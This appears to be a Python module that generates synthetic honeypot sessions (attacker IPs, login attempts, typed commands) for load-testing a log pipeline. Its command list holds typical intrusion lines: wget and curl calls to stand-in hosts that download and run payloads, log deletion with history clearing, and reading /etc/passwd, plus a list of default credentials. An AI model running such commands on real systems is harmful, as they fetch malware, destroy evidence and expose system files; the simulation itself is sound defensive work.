"""Attackers and what they do: who comes, how often, for how long, with which words.

Few attackers make most of the sessions (their rates are Pareto distributed), sessions last log-normally: most for
seconds, some for hours. Most look and leave, many try passwords, few get in and type commands.
"""

import json
import math
from bisect import bisect
from collections.abc import Sequence
from itertools import accumulate
from random import Random

import msgspec

from producers.load.mix import MOST_ATTACKERS, Mix

#: Records of one session on average: 2 and what the shares below add.
RECORDS_PER_SESSION = 4.65

#: The exponent with which a fifth makes four fifths.
_PARETO = 1.16
#: Seconds: the median of a session, and how far it varies.
_MEDIAN, _SIGMA = 9.0, 1.5
_LONGEST = 43_200.0
#: Shares of sessions that only look, and that try passwords in vain; the rest gets in.
_LOOKS, _FAILS = 0.35, 0.45
_IDS = 1 << 48
#: Odd, so that numbers times it are different for ever (modulo a power of two); that of Knuth's hash.
_STEP = 0x9E3779B97F4B

_PORTS = {"ssh": 22, "telnet": 23, "ftp": 21}
_PROTOCOLS = ("ssh", "ssh", "ssh", "telnet")


def _quoted(texts: str) -> tuple[str, ...]:
    return tuple(json.dumps(text) for text in texts.split("|"))


#: All as JSON text, with its quotes.
_USERS = _quoted("root|root|root|root|admin|admin|user|test|ubuntu|oracle|postgres|git|pi|deploy|guest|support|jürgen")
_PASSWORDS = _quoted(
    "123456|root|admin|password|1234|12345678|qwerty|toor|P@ssw0rd|admin123|raspberry|test|changeme|letmein|\\|'\"|пароль"
)
_COMMANDS = _quoted(
    "uname -a|id|whoami|cat /proc/cpuinfo|free -m|w|ls -la /tmp|cd /tmp; wget http://198.51.100.9/a.sh; sh a.sh"
    '|cat /etc/passwd|crontab -l|ps aux --sort=-%mem|echo -e "\\x6F\\x6B"|rm -rf /var/log/*|history -c|nproc'
    "|curl -s http://203.0.113.7/x86_64 -o /dev/shm/.x && chmod +x /dev/shm/.x && /dev/shm/.x"
)


class Sensor(msgspec.Struct, frozen=True):
    """Where attackers come to."""

    name: str
    protocol: str
    ip: str
    port: int
    token: str


class Visit(msgspec.Struct, gc=False):
    """One session: times are microseconds, ``logins`` and ``commands`` follow one another in time."""

    sensor: Sensor
    session_id: str
    client_ip: str
    client_port: int
    began: int
    ended: int
    #: Time, user, password, both as JSON text.
    logins: list[tuple[int, str, str]]
    #: Whether the last login succeeded.
    entered: bool
    #: Time and text as JSON text.
    commands: list[tuple[int, str]]


class Visits:
    """Sessions one after the other; draws from ``random`` alone."""

    def __init__(self, mix: Mix, random: Random) -> None:
        self._random = random
        self._sensors = [_sensor(mix, number, random) for number in range(mix.sensors)]
        self._sensor_weights = _heavy(mix.sensors, random)
        chosen = random.sample(range(MOST_ATTACKERS), mix.attackers)
        self._attackers = [f"198.{18 + (n >> 16)}.{n >> 8 & 255}.{n & 255}" for n in chosen]
        self._attacker_weights = _heavy(mix.attackers, random)
        self._log_median = math.log(_MEDIAN)
        self._first_id = random.getrandbits(48)
        self._count = 0

    def next(self, began: int) -> Visit:
        """The session that begins at this time."""
        random = self._random
        draw = random.random
        seconds = min(random.lognormvariate(self._log_median, _SIGMA), _LONGEST)
        length = max(1_000, int(seconds * 1_000_000))
        kind = draw()
        tries = commands = 0
        entered = kind >= _LOOKS + _FAILS
        if entered:
            tries = 1 + int(draw() * 2)
            commands = 1 + int(draw() * 9)
        elif kind >= _LOOKS:
            tries = 1 + int(draw() * 5)
        # Equal steps with some jitter: at least 1 µs apart, whatever is drawn.
        step = length // (tries + commands + 1)
        times = [began + n * step + int(draw() * step * 0.9) for n in range(1, tries + commands + 1)]
        users, words, texts = len(_USERS), len(_PASSWORDS), len(_COMMANDS)
        number = self._count
        self._count = number + 1
        return Visit(
            self._sensors[bisect(self._sensor_weights, draw() * self._sensor_weights[-1])],
            f"{(self._first_id + number * _STEP) % _IDS:012x}",
            self._attackers[bisect(self._attacker_weights, draw() * self._attacker_weights[-1])],
            1_024 + int(draw() * 64_000),
            began,
            began + length,
            [(time, _USERS[int(draw() * users)], _PASSWORDS[int(draw() * words)]) for time in times[:tries]],
            entered,
            [(time, _COMMANDS[int(draw() * texts)]) for time in times[tries:]],
        )


def _sensor(mix: Mix, number: int, random: Random) -> Sensor:
    protocols = _PROTOCOLS if mix.format == "cowrie" else (*_PROTOCOLS, "ftp")
    protocol = protocols[int(random.random() * len(protocols))]
    ip = f"192.0.2.{number % 254 + 1}"
    return Sensor(f"{mix.prefix}{number:03d}", protocol, ip, _PORTS[protocol], f"{random.getrandbits(64):016x}")


def _heavy(count: int, random: Random) -> Sequence[float]:
    """Cumulative weights of so many, heavy-tailed."""
    return list(accumulate(random.paretovariate(_PARETO) for _ in range(count)))
